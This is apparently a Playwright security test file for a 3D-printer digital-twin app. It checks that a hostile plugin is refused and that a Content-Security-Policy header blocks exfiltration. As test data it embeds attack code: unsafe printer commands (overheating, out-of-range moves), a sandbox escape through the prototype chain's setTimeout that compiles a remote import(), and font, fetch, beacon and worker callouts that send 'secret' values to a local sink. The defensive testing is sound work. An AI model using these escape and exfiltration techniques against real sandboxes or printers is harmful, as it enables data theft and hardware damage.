// Issue 13, items 2 and 3, through the Twins page on the embedded stack: a hostile appearance granule imported and
// composed into the JGAurora twin the way a user does it tries to read other contexts, listen to the communication
// context and drive the printer; the page refuses it and says so in plain words. And the app's own origin — page
// and workers — cannot reach an exfiltration sink, because the server sends a Content-Security-Policy header.
import { createServer, type Server } from 'node:http';
import { test, expect } from './fixtures';
import { composeAppearance, hostileGranule } from './hostile';
import { freePort } from '../../scripts/stack/ports';
import type { Page } from '@playwright/test';

const ATTACK = `
  const heard = { exchange: 0, reading: 0 };
  exports.start = () => {
    twin.on('communication:exchange', () => heard.exchange++);
    twin.on('sensing:reading', () => heard.reading++);
  };
  const tryIt = async (ctx, op, p) => { try { await twin.request(ctx, op, p); return 'reached'; } catch (e) { return 'refused'; } };
  exports.operations = {
    scene: () => ({}), pose: () => ({}), placed: () => [],
    view: async () => ({ type: 'kv', items: [
      ['mechanical', await tryIt('mechanical', 'spec')],
      ['formalization', await tryIt('formalization', 'describe')],
      ['task', await tryIt('task', 'queue')],
      ['communication', await tryIt('communication', 'status')],
      ['M104 S270', await tryIt('communication', 'send', { command: 'M104 S270' })],
      ['G28', await tryIt('communication', 'send', { command: 'G28' })],
      ['G1 X500 Y500 Z600', await tryIt('communication', 'send', { command: 'G1 X500 Y500 Z600' })],
      ['printer', await tryIt('printer', 'command', 'M104 S270')],
      ['sensing', await tryIt('sensing', 'state')],
      ['heard exchange', String(heard.exchange)],
    ] }),
  };`;

function hostile(name: string, dependencies?: unknown[]): Uint8Array {
  const manifest: Record<string, unknown> = { owner: { publicKey: '', name: 'Mallory' } };
  if (dependencies) manifest.dependencies = { granules: dependencies, libraries: [] };
  return hostileGranule(name, ATTACK, { printer: 'jgaurora-z-603s', manifest });
}

const composeAndRun = composeAppearance;

const items = async (page: Page) => {
  const view = page.getByTestId('context-view');
  await expect(view.locator('dl.kv')).toBeVisible();
  const keys = await view.locator('dl.kv dt').allTextContents();
  const values = await view.locator('dl.kv dd').allTextContents();
  return Object.fromEntries(keys.map((k, i) => [k, values[i]]));
};

test.describe('capabilities on the Twins page', () => {
  test('attack: an appearance granule reads four contexts, listens to communication and sends M104 S270, G28, G1 X500 Y500 Z600 through it', async ({
    page,
    stack,
  }) => {
    const violations: string[] = [];
    page.on('console', (m) => /Content.Security.Policy|Refused to/i.test(m.text()) && violations.push(m.text()));
    await composeAndRun(page, stack.appUrl, hostile('nosy'), 'nosy');
    await expect(page.getByTestId('envelope')).toContainText('hotend up to 260 °C');
    const seen = await items(page);
    expect(seen).toEqual({
      mechanical: 'refused',
      formalization: 'refused',
      task: 'refused',
      communication: 'refused',
      'M104 S270': 'refused',
      G28: 'refused',
      'G1 X500 Y500 Z600': 'refused',
      printer: 'refused',
      sensing: 'reached',
      'heard exchange': '0',
    });
    // The incidents name the granule in plain words.
    const incidents = page.getByTestId('incidents');
    await expect(incidents.locator('li[data-kind="denied"][data-granule="mallory/nosy"]')).toHaveCount(9);
    await expect(incidents).toContainText(
      'The appearance part of the twin — granule “mallory/nosy” 1.0.0 by Mallory — tried to do something it is not allowed to do, and was refused.',
    );
    await expect(incidents).toContainText('It called the mechanical context ("spec"), which its granule.json does not declare as a dependency');
    await expect(incidents).toContainText('It subscribed to the "communication:exchange" event');
    await expect(incidents).toContainText('Nothing reached the printer');
    // The rest of the twin keeps working, and the printer was not heated by the attack.
    await page.locator('[data-context="automation"]').first().click();
    const view = page.getByTestId('context-view');
    await view.locator('button[data-op="home"]').click();
    await expect(view).toContainText('G28');
    await page.locator('[data-context="sensing"]').first().click();
    await view.locator('button[data-op="poll"]').click();
    await expect(view).toContainText('°C → 0 °C');
    // The readout is "temperature → target": the attack's M104 S270 never set a target (the poll's raw reply may hold any digits).
    await expect(view).not.toContainText('→ 270 °C');
    // Homing made the communication context emit an exchange; the granule still heard none of it.
    await page.locator('[data-context="appearance"]').first().click();
    expect((await items(page))['heard exchange']).toBe('0');
    await expect(page.getByTestId('context-states')).not.toContainText('failed');
    expect(violations).toEqual([]);
  });

  test('attack: declaring communication as a dependency still keeps its commands inside the envelope', async ({ page, stack }) => {
    const bytes = hostile('bold', [
      { name: 'sensing', version: '^1.0.0' },
      { name: 'communication', version: '^1.0.0' },
    ]);
    await composeAndRun(page, stack.appUrl, bytes, 'bold');
    const seen = await items(page);
    // Its declared dependency answers; G28 is inside the envelope; the rest is not.
    expect(seen).toMatchObject({
      communication: 'reached',
      G28: 'reached',
      'M104 S270': 'refused',
      'G1 X500 Y500 Z600': 'refused',
      printer: 'refused',
      mechanical: 'refused',
    });
    const incidents = page.getByTestId('incidents');
    await expect(incidents).toContainText('"M104 S270", which was refused: 270 °C is above the 260 °C the hotend may reach');
    await expect(incidents).toContainText('X 500 mm is outside the build volume (0–280 mm)');
    await page.locator('[data-context="sensing"]').first().click();
    const view = page.getByTestId('context-view');
    await view.locator('button[data-op="poll"]').click();
    await expect(view).toContainText('°C → 0 °C');
  });

  test('attack: a granule in its sandbox worker sends data out through a font and a string-compiled import() (CSP header)', async ({ page, stack }) => {
    const hits: string[] = [];
    const sink: Server = createServer((req, res) => (hits.push(`${req.method} ${req.url}`), res.end('ok')));
    sink.on('connection', (s) => s.on('data', (d) => hits.push(`bytes ${d.length}`)));
    const port = await freePort();
    await new Promise<void>((r) => sink.listen(port, '127.0.0.1', () => r()));
    const out = `http://127.0.0.1:${port}`;
    // The holes of issue 13 the sandbox itself may not close: FontFace in the worker, and a string handed to the native
    // timer left on the global scope's prototype, compiled into an import() of remote code (the word is assembled at
    // run time, past the sandbox's source check).
    const exfiltrate = `
      const tryIt = (f) => { try { return f(); } catch (e) { return 'threw'; } };
      exports.operations = { scene: () => ({}), pose: () => ({}), placed: () => [], view: async () => {
        const font = tryIt(() => new FontFace('x', 'url(${out}/font?secret=1)').load().catch(() => null));
        let p = tryIt(() => Object.getPrototypeOf(globalThis));
        while (p && typeof p === 'object' && !Object.getOwnPropertyDescriptor(p, 'setTimeout')) p = Object.getPrototypeOf(p);
        const timer = tryIt(() => p.setTimeout.call(globalThis, 'im' + "port('${out}/module.js?secret=2')", 0));
        await font;
        return { type: 'kv', items: [['tried', 'yes']] };
      } };`;
    try {
      await composeAndRun(
        page,
        stack.appUrl,
        hostileGranule('leaky', exfiltrate, { printer: 'jgaurora-z-603s', manifest: { owner: { publicKey: '' } } }),
        'leaky',
      );
      await expect(page.getByTestId('context-view')).toContainText('tried');
      await page.waitForTimeout(1500);
      expect(hits).toEqual([]);
    } finally {
      sink.closeAllConnections();
      sink.close();
    }
  });

  test('attack: code in the app page and in a blob: worker cannot reach an exfiltration sink (CSP header)', async ({ page, stack }) => {
    const hits: string[] = [];
    const sink: Server = createServer((req, res) => (hits.push(`${req.method} ${req.url}`), res.end('ok')));
    sink.on('connection', (s) => s.on('data', (d) => hits.push(`bytes ${d.length}`)));
    const port = await freePort();
    await new Promise<void>((r) => sink.listen(port, '127.0.0.1', () => r()));
    try {
      await page.goto(`${stack.appUrl}/#/twins`);
      const sinkUrl = `http://127.0.0.1:${port}`;
      await page.evaluate(async (s) => {
        const within = (p: () => unknown) =>
          Promise.race([
            Promise.resolve()
              .then(p)
              .catch(() => null),
            new Promise((r) => setTimeout(r, 1500)),
          ]);
        await within(() => fetch(`${s}/fetch`, { mode: 'no-cors' }));
        await within(() => new FontFace('x', `url(${s}/font)`).load());
        await within(
          () =>
            new Promise((r) => {
              const i = new Image();
              i.onload = i.onerror = r;
              i.src = `${s}/img`;
            }),
        );
        await within(() => navigator.sendBeacon(`${s}/beacon`, 'secret'));
        const code = `onmessage = async (e) => { try { await fetch(e.data + '/worker-fetch', { mode: 'no-cors' }); } catch {} try { await new FontFace('y', 'url(' + e.data + '/worker-font)').load(); } catch {} postMessage('done'); };`;
        const w = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
        await within(
          () =>
            new Promise((r) => {
              w.onmessage = r;
              w.postMessage(s);
            }),
        );
      }, sinkUrl);
      await page.waitForTimeout(500);
      expect(hits).toEqual([]);
      const csp = (await page.request.get(`${stack.appUrl}/`)).headers()['content-security-policy']!;
      expect(csp).toContain(`connect-src 'self' ${new URL(stack.rpcUrl).origin} ws://127.0.0.1:`);
      expect(csp).toContain("script-src 'self' 'wasm-unsafe-eval';");
      // The app itself still works under the policy: run a twin in its sandboxed workers.
      await page.locator('[data-twin="shdm-3ddtp-500"]').click();
      await page.getByTestId('run-twin').click();
      await expect(page.getByTestId('context-states').locator('tbody tr')).toHaveCount(9);
      await expect(page.getByTestId('context-states')).not.toContainText('failed');
    } finally {
      sink.closeAllConnections();
      sink.close();
    }
  });
});
